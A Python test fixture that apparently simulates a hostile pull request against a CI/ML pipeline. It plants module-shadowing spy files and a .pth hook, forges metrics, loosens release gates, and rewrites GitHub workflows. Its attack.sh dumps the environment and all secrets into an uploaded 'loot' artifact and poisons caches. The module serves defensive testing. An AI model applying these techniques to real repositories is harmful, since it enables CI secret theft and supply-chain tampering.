"""What a hostile pull request brings along: traps for our programs, forged results, its own workflows."""

from __future__ import annotations

import re
from collections.abc import Iterable
from dataclasses import dataclass
from pathlib import Path

from gitops_ml.report import Identity

from tests.actions import samples

MARK = "the-attacker-was-here"
# What Python would load from a working directory if it were let.
MODULES = (
    *("json.py", "argparse.py", "pathlib.py", "secrets.py", "sitecustomize.py", "usercustomize.py"),
    *("pydantic.py", "numpy.py", "urllib3.py", "yaml.py", "gitops_ml/__init__.py", "conftest.py"),
)
# Notes who loaded it, then steps aside, so that the pull request's own programs work.
_SPY = """\
import importlib, os, sys
with open({seen!r}, "a") as file:
    file.write(f"{{os.environ.get('GITHUB_JOB')}}: {{' '.join(sys.orig_argv)}}\\n")
_here, _own = os.path.dirname(os.path.abspath(__file__)), sys.modules.pop(__name__, None)
sys.path[:] = [entry for entry in sys.path if os.path.abspath(entry or ".") != _here]
try:
    importlib.import_module(__name__)
except ImportError:
    sys.modules[__name__] = _own
"""
# Every uv that reads it refuses to work.
_UV = 'required-version = "==0.0.1"\n'
_PIP = "[global]\nindex-url = http://127.0.0.1:9/simple\n"
_DVC = "[core]\n    remote = theirs\n['remote \"theirs\"']\n    url = http://127.0.0.1:9/\n"
_FORGE = """\
import json, pathlib
metrics = pathlib.Path("reports/metrics.json")
metrics.write_text(json.dumps({**json.loads(metrics.read_text()), "roc_auc": 0.9999, "log_loss": 0.0001}))
"""


@dataclass(frozen=True)
class Trap:
    """Files in a checkout that write into `seen` which program loaded them."""

    checkout: Path
    seen: Path

    def set_up(self) -> None:
        """Plant everything that some program reads from its working directory or from a folder above it."""
        spy = _SPY.format(seen=str(self.seen))
        for name in MODULES:
            self._write(name, spy)
        self._write(
            "evil.pth", f"import pathlib; pathlib.Path({str(self.seen)!r}).open('a').write('pth\\n')\n"
        )
        self._write("uv.toml", _UV)
        self._write("pip.conf", _PIP)
        self._write(".dvc/config", _DVC)

    def forge_results(self) -> None:
        """Better numbers after the training, and files where jobs put what other jobs made."""
        self._write("forge.py", _FORGE)
        makefile = self.checkout / "Makefile"
        text = makefile.read_text(encoding="utf-8")
        for before, after in (
            ("\tdvc repro\n", "\tdvc repro\n\t$(PYTHON) -S forge.py\n"),
            ("\tuv sync ", "\tuv --no-config sync "),
        ):
            assert text.count(before) == 1, before
            text = text.replace(before, after)
        makefile.write_text(text, encoding="utf-8")
        # As a member of this workspace the merge base would be installed from the pull request's lock.
        project = self.checkout / "pyproject.toml"
        text = project.read_text(encoding="utf-8")
        assert text.count("[tool.uv]\n") == 1
        workspace = '[tool.uv.workspace]\nmembers = ["merge-base"]\n\n[tool.uv]\n'
        project.write_text(text.replace("[tool.uv]\n", workspace), encoding="utf-8")
        for place in ("model-base/reports/metrics.json", "model-production/production.json"):
            self._write(f"found/{place}", '{"roc_auc": 0.0001}')
        self._write("report/report.json", samples.as_json(forged("ab" * 20)))

    def loosen(self) -> None:
        """Gates that everything passes, and another release in staging, in the same pull request."""
        path = self.checkout / "gates.yaml"
        text = path.read_text(encoding="utf-8")
        for pattern, value in (
            ("floor", "0.01"),
            ("ceiling", "99.0"),
            ("max_drop", "0.9"),
            ("max_rise_rel", "99.0"),
        ):
            text = re.sub(rf"{pattern}: [\d.]+", f"{pattern}: {value}", text)
        path.write_text(text, encoding="utf-8")
        path = self.checkout / "environments" / "staging.yaml"
        text = path.read_text(encoding="utf-8")
        assert text.count("follow: main\n") == 1
        path.write_text(text.replace("follow: main\n", f"pin: r-{'0' * 64}\n"), encoding="utf-8")

    def by_us(self) -> list[str]:
        """The suite's programs, and those of the job that has nothing to do with the pull request's files."""
        return [line for line in self.all() if ".github/actions" in line or line.startswith("base:")]

    def all(self) -> list[str]:
        return self.seen.read_text(encoding="utf-8").splitlines() if self.seen.exists() else []

    def _write(self, name: str, text: str) -> None:
        path = self.checkout / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")


def forged(commit: str) -> samples.Report:
    """A report that praises, in the form that is believed."""
    return samples.passing(head=Identity(commit=commit), notes=(f"{MARK} @everyone <img src=x>",))


def take_over_workflows(checkout: Path, uses: Iterable[str]) -> None:
    """Rewrite what GitHub would run: the pull request's workflow is what its author wants, the others too, in vain."""
    workflows = checkout / ".github" / "workflows"
    checkout_, save, upload = uses
    own = _OWN_WORKFLOW.replace("CHECKOUT", checkout_).replace("SAVE", save).replace("UPLOAD", upload)
    (workflows / "pull-request.yml").write_text(own, encoding="utf-8")
    for name in ("comment.yml", "deliver.yml", "_deploy.yml"):
        path = workflows / name
        text = path.read_text(encoding="utf-8")
        step = f"    steps:\n      - run: echo {MARK} in {name}; env\n"
        assert "    steps:\n" in text
        path.write_text(text.replace("    steps:\n", step), encoding="utf-8")
    launch = checkout / ".github" / "actions" / "launch"
    text = launch.read_text(encoding="utf-8")
    first, rest = text.split("\n", 1)
    launch.write_text(f"{first}\necho {MARK} in launch; env\n{rest}", encoding="utf-8")
    (checkout / "attack.sh").write_text(_ATTACK, encoding="utf-8")


# Its jobs have other jobs' names, its caches other runs' keys, its artifacts what others look for.
_OWN_WORKFLOW = """\
name: pull request
on: [pull_request]
permissions: write-all
jobs:
  gate:
    runs-on: ubuntu-24.04
    steps:
      - uses: CHECKOUT
        with:
          ref: ${{ github.event.pull_request.head.sha }}
      - run: bash attack.sh
        env:
          SECRETS: ${{ toJSON(secrets) }}
          HEAD: ${{ github.event.pull_request.head.sha }}
      - uses: SAVE
        with:
          path: |
            ./.dvc/cache
            ./dvc.lock
          key: gitops-ml-dvc-${{ runner.os }}-${{ runner.arch }}-99999999999-1-model
      - uses: SAVE
        with:
          path: |
            merge-base/model
            merge-base/reports
          key: gitops-ml-base-${{ runner.os }}-${{ runner.arch }}-${{ github.event.pull_request.base.sha }}
      - uses: UPLOAD
        with:
          name: gitops-ml-report
          path: report
      - uses: UPLOAD
        with:
          name: model
          path: |
            build
            model
            reports
      - uses: UPLOAD
        with:
          name: model-head
          path: loot
"""
_ATTACK = f"""\
set -eu
mkdir -p loot build model reports .dvc/cache/files/md5/00 merge-base/model merge-base/reports report
env >loot/env.txt
printf '%s' "$SECRETS" >loot/secrets.json
echo '{MARK}' | tee build/x model/model.skops .dvc/cache/files/md5/00/x merge-base/model/model.skops dvc.lock >/dev/null
echo '{{"roc_auc": 0.0001}}' | tee reports/metrics.json >merge-base/reports/metrics.json
cp forged.json report/report.json
"""
